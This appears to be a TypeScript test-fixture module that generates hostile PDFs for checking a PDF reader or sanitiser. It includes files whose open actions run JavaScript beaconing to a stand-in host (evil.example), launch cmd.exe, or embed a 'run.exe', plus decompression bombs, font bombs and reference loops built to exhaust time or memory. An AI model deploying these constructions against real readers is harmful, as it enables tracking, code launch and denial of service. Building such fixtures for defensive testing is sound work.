import { PdfFile, pdfLines, pdfOf } from './pdf-file.ts';

const visible = { texts: pdfLines(['Visible text']) };

/** A stream that is compressed as a PDF has it. */
export async function deflated(blocks: number, block: Uint8Array<ArrayBuffer>): Promise<Uint8Array> {
	let left = blocks;
	const source = new ReadableStream<Uint8Array<ArrayBuffer>>({
		pull(controller) {
			if (left-- === 0) controller.close();
			else controller.enqueue(block);
		}
	});
	return new Uint8Array(await new Response(source.pipeThrough(new CompressionStream('deflate'))).arrayBuffer());
}

/** A document whose only page has the given content stream and resources. */
export function pageWith(
	file: PdfFile,
	content: number,
	resources = '',
	page = '/MediaBox [0 0 595 842]'
): Uint8Array<ArrayBuffer> {
	const tree = file.reserve();
	const kid = file.add(
		`<< /Type /Page /Parent ${tree} 0 R ${page} /Contents ${content} 0 R /Resources << ${resources} >> >>`
	);
	file.set(tree, `<< /Type /Pages /Count 1 /Kids [${kid} 0 R] >>`);
	return file.bytes(file.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`));
}

/** PDFs that run, open or load something when a reader lets them; their page can be read. */
export function activePdfs(): Record<string, Uint8Array<ArrayBuffer>> {
	const address = 'http://evil.example/beacon';
	const embedded = new PdfFile();
	const file = embedded.stream('MZ', '/Type /EmbeddedFile');
	const specification = embedded.add(`<< /Type /Filespec /F (run.exe) /EF << /F ${file} 0 R >> >>`);
	const remote = new PdfFile();
	const image = remote.stream(
		'',
		`/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ` +
			`/F << /FS /URL /F (${address}.png) >>`
	);
	return {
		script: pdfOf({
			pages: [visible],
			catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL("${address}"); this.submitForm("${address}")) >>`,
			page: '/AA << /O << /S /JavaScript /JS (while \\(true\\) {}) >> >>'
		}),
		launch: pdfOf({ pages: [visible], catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
		address: pdfOf({ pages: [visible], catalogue: `/OpenAction << /S /URI /URI (${address}) >>` }),
		embedded: pdfOf(
			{ pages: [visible], catalogue: `/Names << /EmbeddedFiles << /Names [(run.exe) ${specification} 0 R] >> >>` },
			embedded
		),
		'remote image': pdfOf({ pages: [visible], page: `/Thumb ${image} 0 R` }, remote),
		form: pdfOf({
			pages: [visible],
			catalogue: `/AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) /NeedAppearances true >>`
		}),
		'font function': pdfOf({
			pages: [visible],
			page: `/Group << /S /Transparency /CS [/Separation /X /DeviceRGB << /FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1] >>] >>`
		})
	};
}

/** PDFs that cannot be read as they claim, or take all time or memory that they get. */
export async function endlessPdfs(): Promise<Record<string, Uint8Array<ArrayBuffer>>> {
	const pageLoop = new PdfFile();
	const tree = pageLoop.reserve();
	const branch = pageLoop.add(`<< /Type /Pages /Count 9 /Parent ${tree} 0 R /Kids [${tree} 0 R] >>`);
	pageLoop.set(tree, `<< /Type /Pages /Count 9 /Kids [${branch} 0 R ${tree} 0 R] >>`);

	const formLoop = new PdfFile();
	const form = formLoop.reserve();
	formLoop.set(
		form,
		`<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F ${form} 0 R >> >> /Length 5 >>\nstream\n/F Do\nendstream`
	);

	const outlineLoop = new PdfFile();
	const outline = outlineLoop.reserve();
	const entry = outlineLoop.reserve();
	outlineLoop.set(entry, `<< /Title (Again) /Parent ${outline} 0 R /Next ${entry} 0 R /First ${entry} 0 R >>`);
	outlineLoop.set(outline, `<< /First ${entry} 0 R /Last ${entry} 0 R /Count 1 >>`);

	const bomb = new PdfFile();
	const text = new TextEncoder().encode('BT /F1 9 Tf (A) Tj ET\n'.repeat(50_000));
	const content = bomb.stream(await deflated(100, text), '/Filter /FlateDecode');

	const font = new PdfFile();
	const program = font.stream(await deflated(100, new Uint8Array(2 ** 20)), '/Filter /FlateDecode /Length1 100000000');
	const descriptor = font.add(
		`<< /Type /FontDescriptor /FontName /Bomb /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /StemV 1 /FontFile2 ${program} 0 R >>`
	);
	const broken = font.add(
		`<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor ${descriptor} 0 R >>`
	);
	const huge = new PdfFile();

	const table = new TextDecoder('latin1').decode(pdfOf({ pages: [visible] }));
	const start = table.lastIndexOf('xref', table.lastIndexOf('trailer'));
	const looped = table.replace('/Root', `/Prev ${start} /Root`);

	return {
		'page tree loop': pageLoop.bytes(pageLoop.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`)),
		'form loop': pageWith(formLoop, formLoop.stream('/F Do'), `/XObject << /F ${form} 0 R >>`),
		'outline loop': pdfOf({ pages: [visible], catalogue: `/Outlines ${outline} 0 R` }, outlineLoop),
		'table loop': Uint8Array.from(looped, (character) => character.charCodeAt(0)),
		bomb: pageWith(bomb, content),
		'font bomb': pageWith(font, font.stream('BT /F1 9 Tf (A) Tj ET'), `/Font << /F1 ${broken} 0 R >>`),
		'huge page': pageWith(huge, huge.stream('0 0 9 9 re f'), '', '/MediaBox [0 0 1e9 1e9]')
	};
}

/** A PDF that asks for a password, which is not empty. */
export function encryptedPdf(): Uint8Array<ArrayBuffer> {
	const file = new PdfFile();
	const tree = file.add('<< /Type /Pages /Count 0 /Kids [] >>');
	const root = file.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`);
	const key = '5A'.repeat(32);
	const encryption = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${key}> /U <${key}> >>`;
	return file.bytes(root, `${encryption} /ID [<00112233> <00112233>]`);
}
